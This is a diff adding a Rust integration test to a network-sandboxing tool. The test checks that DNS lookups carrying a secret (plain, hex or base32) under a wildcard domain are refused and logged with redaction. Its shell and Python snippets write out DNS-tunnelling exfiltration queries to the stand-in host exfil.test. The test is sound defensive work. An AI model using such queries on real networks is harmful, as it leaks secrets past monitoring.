@@ -554,3 +554,88 @@ curl -s -m 5 --noproxy '*' -k https://ok.test:{port}/ >/dev/null; echo "https-ex
         "the unseen HTTPS is refused and said: {stderr}"
     );
 }
+
+/// With `[scan]` on, a DNS question under a wildcard whose labels carry
+/// data (a secret's value, hex, base32) is answered `REFUSED` and recorded
+/// as `secret_detected` with the labels redacted, while ordinary names
+/// under the same wildcard get their address: the question itself is the
+/// way out under `--isolate`, and nothing is forwarded either way.
+#[tokio::test]
+async fn dns_questions_that_carry_data_are_refused_when_scanning() {
+    if !namespaces_available().await {
+        return;
+    }
+    let known = "hunter2-very-secret-value";
+    let hex: String = known.bytes().map(|b| format!("{b:02x}")).collect();
+    let base32 = "mfrggzdfmztwq2lknnwg23tpobyxe43uov3ho6dzpi2tkmzy";
+    let dir = tempfile::tempdir().unwrap();
+    let violations = dir.path().join("violations.jsonl");
+    let config = dir.path().join("scan.toml");
+    std::fs::write(
+        &config,
+        format!(
+            "[network]\nallowed_domains = [\"**.exfil.test\"]\n\n[scan]\naction = \"deny\"\nsecret_env = [\"MY_SECRET\"]\n\n[log]\nviolations_file = {violations:?}\n"
+        ),
+    )
+    .unwrap();
+    let script = format!(
+        r#"
+for name in logs.exfil.test github-production-release-asset-2e65be.exfil.test {known}.exfil.test {hex}.exfil.test; do
+  getent hosts "$name" >/dev/null; echo "$name $?"
+done
+python3 -c 'import socket
+label = b"{base32}"
+q = bytes.fromhex("abcd01000001000000000000") + bytes([len(label)]) + label + b"\x05exfil\x04test\x00\x00\x10\x00\x01"
+s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(5)
+s.sendto(q, ("127.0.0.1", 53)); print("txt rcode", s.recv(512)[3] & 15)'
+"#
+    );
+    let (code, stdout, stderr) = output(
+        portcullis()
+            .env("MY_SECRET", known)
+            .args(["run", "--isolate", "--config"])
+            .arg(&config)
+            .args(["--", "sh", "-c", &script]),
+    )
+    .await;
+    if capture_refused(&stderr) {
+        return;
+    }
+    assert_eq!(code, Some(0), "{stderr}");
+    for (name, status) in [
+        ("logs.exfil.test".to_owned(), 0),
+        ("github-production-release-asset-2e65be.exfil.test".to_owned(), 0),
+        (format!("{known}.exfil.test"), 2),
+        (format!("{hex}.exfil.test"), 2),
+    ] {
+        assert!(
+            stdout.contains(&format!("{name} {status}\n")),
+            "{name} should exit {status}:\n{stdout}\n{stderr}"
+        );
+    }
+    // A TXT question (the classic DNS tunnel) is refused as REFUSED (5).
+    assert!(stdout.contains("txt rcode 5"), "{stdout}\n{stderr}");
+    let recorded = std::fs::read_to_string(&violations).unwrap();
+    let dns: Vec<&str> = recorded
+        .lines()
+        .filter(|line| line.contains(r#""protocol":"dns""#))
+        .collect();
+    assert!(
+        dns.iter().any(|line| line.contains("known:MY_SECRET in the host name")),
+        "{recorded}"
+    );
+    assert!(
+        dns.iter().any(|line| line.contains("encoded_hostname")),
+        "{recorded}"
+    );
+    assert!(
+        dns.iter()
+            .all(|line| line.contains("secret_detected") && line.contains("{redacted}.exfil.test")),
+        "{recorded}"
+    );
+    for text in [&recorded, &stderr] {
+        for value in [known, hex.as_str(), base32] {
+            assert!(!text.contains(value), "{value} in {text}");
+        }
+    }
+}
